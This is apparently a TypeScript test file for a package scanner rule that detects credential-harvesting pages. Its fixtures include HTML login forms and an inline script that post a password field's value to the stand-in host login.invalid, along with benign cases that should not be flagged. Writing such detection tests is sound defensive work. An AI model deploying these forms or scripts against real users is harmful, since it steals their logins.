import { examine } from '../../../test/examine.ts';
import { collectsLogins } from './collects-logins.ts';

examine(collectsLogins, {
  speaks: [
    {
      when: 'a package is only a page that does',
      files: {
        'package.json': { name: 'specimen' },
        'index.html': '<form action="https://login.invalid/p" method="post"><input name="u"><input type="password" name="p"></form>',
      },
      weight: 'strong',
      says: ['login.invalid'],
    },
    {
      when: 'a script in the page sends it',
      files: {
        'package.json': { name: 'specimen' },
        'p.html': `<input type='password' id='p'><script>fetch('https://login.invalid/', { method: 'POST', body: p.value })</script>`,
      },
      weight: 'strong',
    },
    {
      when: 'it hides among code',
      files: {
        'index.js': 'module.exports = 1',
        'docs/login.htm': '<form action="https://login.invalid/p" method="post"><input name="u"><input type="password" name="p"></form>',
      },
      weight: 'weak',
    },
  ],
  silent: [
    { when: 'the page sends to its own server', files: { 'login.html': '<form action="/login"><input type="password"></form>' } },
    { when: 'a search form goes elsewhere', files: { 'index.html': '<form action="https://search.invalid/"><input name="q"></form>' } },
    {
      when: 'a README shows such a form',
      files: {
        'README.md': '<form action="https://login.invalid/p" method="post"><input name="u"><input type="password" name="p"></form>',
      },
    },
  ],
});
